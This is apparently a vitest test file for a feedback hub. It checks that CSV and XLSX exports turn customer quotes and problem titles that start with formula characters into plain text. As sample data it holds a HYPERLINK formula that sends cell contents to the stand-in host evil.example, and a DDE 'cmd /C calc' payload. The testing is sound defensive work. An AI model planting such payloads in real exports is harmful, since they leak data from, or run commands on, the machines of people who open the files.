import { describe, it, expect, beforeAll, afterAll } from 'vitest';
import ExcelJS from 'exceljs';
import { parse } from 'csv-parse/sync';
import { startHub, TestClock, type TestHub } from '../utils/hub.js';
import { demoIds, tokens, recordFeedback, openProblem, type DemoIds } from '../utils/fixtures.js';

/**
 * CSV injection (issue 15 item 4): customers' words (the report's quotes) and staff's text
 * (problem titles) that begin with a character a spreadsheet evaluates must reach no export as a
 * live formula. The month is one of its own, after the demo data, so that these items are the
 * report's quotes and new problems.
 */
const DEMO_NOW = Date.parse('2026-11-20T10:00:00+08:00');
const PREVIOUS = Date.parse('2027-02-10T10:00:00+08:00');
const NOW = Date.parse('2027-03-10T10:00:00+08:00');
const MONTH = '2027-03';
/** What a spreadsheet evaluates at the start of a cell (OWASP), and the full-width forms some read alike. */
const TRIGGERS = ['=', '+', '-', '@', '\t', '\r'];
const EVALUATED = /^[=+\-@\t\r＝＋－＠]/;
/** A cell a spreadsheet may evaluate only as what it is: a plain (negative) number. */
const PLAIN_NUMBER = /^-?\d+(\.\d+)?$/;
const quoteOf = (p: string) => `${p}HYPERLINK("http://evil.example/?"&A1,"点我") 客户原声`;
const titleOf = (p: string) => `${p}cmd|' /C calc'!A0 问题标题`;

let hub: TestHub;
let t: Record<string, string>;
let ids: DemoIds;
let base: string;
const problemIds: string[] = [];

const download = async (path: string, token: string) => {
  const res = await fetch(`${base}${path}`, { headers: { authorization: `Bearer ${token}` } });
  expect(res.status, path).toBe(200);
  return Buffer.from(await res.arrayBuffer());
};

beforeAll(async () => {
  const clock = new TestClock(DEMO_NOW);
  hub = await startHub({ clock, demo: { feedback: 60, contacts: 20 } });
  t = await tokens(hub);
  ids = await demoIds(hub, t.admin!);
  base = hub.url.replace(/\/graphql$/, '');
  const [a, b] = [ids.category.CREDIT_CARD!, ids.category.LOAN!];
  // Last month: five items of category A, so that this month's three are a fall (a negative number).
  // Tokens expire with the clock moved months ahead: sign in again at each move.
  clock.set(PREVIOUS);
  t = await tokens(hub);
  for (let i = 0; i < 5; i++)
    await recordFeedback(hub, t.agent!, { kind: 'PROBLEM', categoryId: a, branchId: ids.branch.SH!, text: `上月 ${i}` });
  clock.set(NOW);
  t = await tokens(hub);
  // One item for each kind × category: each is its group's quote. The API trims leading
  // whitespace, so the tab and CR texts are written as older or imported data would hold them.
  const combos = (['PRAISE', 'PROBLEM', 'SUGGESTION'] as const).flatMap((kind) => [a, b].map((categoryId) => ({ kind, categoryId })));
  for (const [i, p] of TRIGGERS.entries()) {
    const { kind, categoryId } = combos[i]!;
    const placeholder = `placeholder ${i}`;
    const feedbackId = await recordFeedback(hub, t.agent!, {
      kind,
      categoryId,
      branchId: ids.branch.SH!,
      text: p.trim() ? quoteOf(p) : placeholder,
    });
    const problem = await openProblem(hub, t.coordinator!, categoryId, [feedbackId], p.trim() ? titleOf(p) : `placeholder ${i}`);
    problemIds.push(problem.id);
    if (!p.trim()) {
      await hub.db.run('UPDATE feedback SET text = ? WHERE id = ?', quoteOf(p), feedbackId);
      await hub.db.run('UPDATE problems SET title = ? WHERE id = ?', titleOf(p), problem.id);
    }
  }
});
afterAll(async () => hub.stop());

describe('exports carry no formulas', () => {
  it('the CSV: every quote and title that begins with = + - @ tab or CR is text; negative numbers stay numbers', async () => {
    const rows = parse(await download(`/exports/voc/${MONTH}.csv`, t.coordinator!), {
      bom: true,
      relax_column_count: true,
    }) as string[][];
    const cells = rows.flat();
    // No cell a spreadsheet would evaluate, besides plain numbers.
    const live = cells.filter((c) => EVALUATED.test(c) && !PLAIN_NUMBER.test(c));
    expect(live).toEqual([]);
    // Every hostile text arrived, whole, as text behind the quote mark.
    for (const p of TRIGGERS) {
      expect(cells, JSON.stringify(p)).toContain(`'${quoteOf(p)}`);
      expect(cells, JSON.stringify(p)).toContain(`'${titleOf(p)}`);
    }
    // A genuine negative number (category A fell from 5 to 3: -40 %) is written as a number.
    const categories = rows.findIndex((r) => r[0] === '问题类别');
    const fall = rows.slice(categories + 2).find((r) => r[1] === '3' && r[2] === '5');
    expect(fall?.[3]).toBe('-0.4');
  });

  it('the XLSX: the same texts are text cells, and no cell of any sheet is a formula', async () => {
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load((await download(`/exports/voc/${MONTH}.xlsx`, t.coordinator!)) as unknown as ExcelJS.Buffer);
    const texts: string[] = [];
    wb.eachSheet((sheet) =>
      sheet.eachRow((row) =>
        row.eachCell((cell) => {
          expect(cell.type, `${sheet.name}!${cell.address}`).not.toBe(ExcelJS.ValueType.Formula);
          // XML turns a CR into LF when the file is read (a spreadsheet the same): compared so.
          if (cell.type === ExcelJS.ValueType.String) texts.push((cell.value as string).replaceAll('\r', '\n'));
        }),
      ),
    );
    for (const p of TRIGGERS) {
      expect(texts).toContain(quoteOf(p).replaceAll('\r', '\n'));
      expect(texts).toContain(titleOf(p).replaceAll('\r', '\n'));
    }
  });

  it('the linkage table XLSX: a hostile title is a text cell, never a formula', async () => {
    for (const [i, id] of problemIds.entries()) {
      const wb = new ExcelJS.Workbook();
      await wb.xlsx.load((await download(`/exports/problems/${id}/linkage.xlsx`, t.coordinator!)) as unknown as ExcelJS.Buffer);
      const sheet = wb.worksheets[0]!;
      let title: ExcelJS.Cell | undefined;
      sheet.eachRow((row) =>
        row.eachCell((cell) => {
          expect(cell.type, cell.address).not.toBe(ExcelJS.ValueType.Formula);
          // The title's merged cells repeat its value: the first is the one holding it.
          if (!title && String(cell.value).replaceAll('\r', '\n') === titleOf(TRIGGERS[i]!).replaceAll('\r', '\n')) title = cell;
        }),
      );
      expect(title?.type, JSON.stringify(TRIGGERS[i])).toBe(ExcelJS.ValueType.String);
    }
  });
});
